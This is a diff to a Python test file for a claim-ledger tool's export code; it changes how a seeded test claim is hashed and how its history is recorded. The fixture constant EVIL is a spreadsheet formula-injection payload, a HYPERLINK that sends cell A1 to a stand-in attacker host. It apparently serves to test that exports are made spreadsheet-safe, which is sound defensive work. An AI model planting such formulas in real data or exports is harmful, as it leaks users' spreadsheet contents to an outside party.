@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
 from pathlib import Path
@@ -12,9 +13,11 @@ from sqlalchemy.engine import Engine
 
 from claimledger.db import session_scope
 from claimledger.export import export_records, spreadsheet_safe, write_csv
+from claimledger.ledger.review import record
 from claimledger.models import Claim, Source
 from claimledger.records import ClaimFilter
 from claimledger.service import Ledger
+from claimledger.vocab import HistoryAction
 from helpers import Cli
 
 EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
@@ -34,7 +37,7 @@ def _claim(
     with session_scope(engine) as s:
         src = Source(
             path="evil.txt",
-            content_hash=f"h-{quote}",
+            content_hash=hashlib.sha256(text.encode()).hexdigest(),
             text=text,
             outlet=outlet,
             title=title,
@@ -49,10 +52,14 @@ def _claim(
             start=start,
             end=start + len(quote),
             speaker=EVIL,
-            assignee=EVIL,
+            version=0,
         )
         s.add(claim)
         s.flush()
+        # written through the core's history, as the product writes it (so `verify` holds)
+        record(claim, HistoryAction.CREATED, session=s, user="seed", after="new")
+        claim.assignee = EVIL
+        record(claim, HistoryAction.ASSIGNEE, session=s, user="seed", after=EVIL)
         return claim.id or 0
 
 
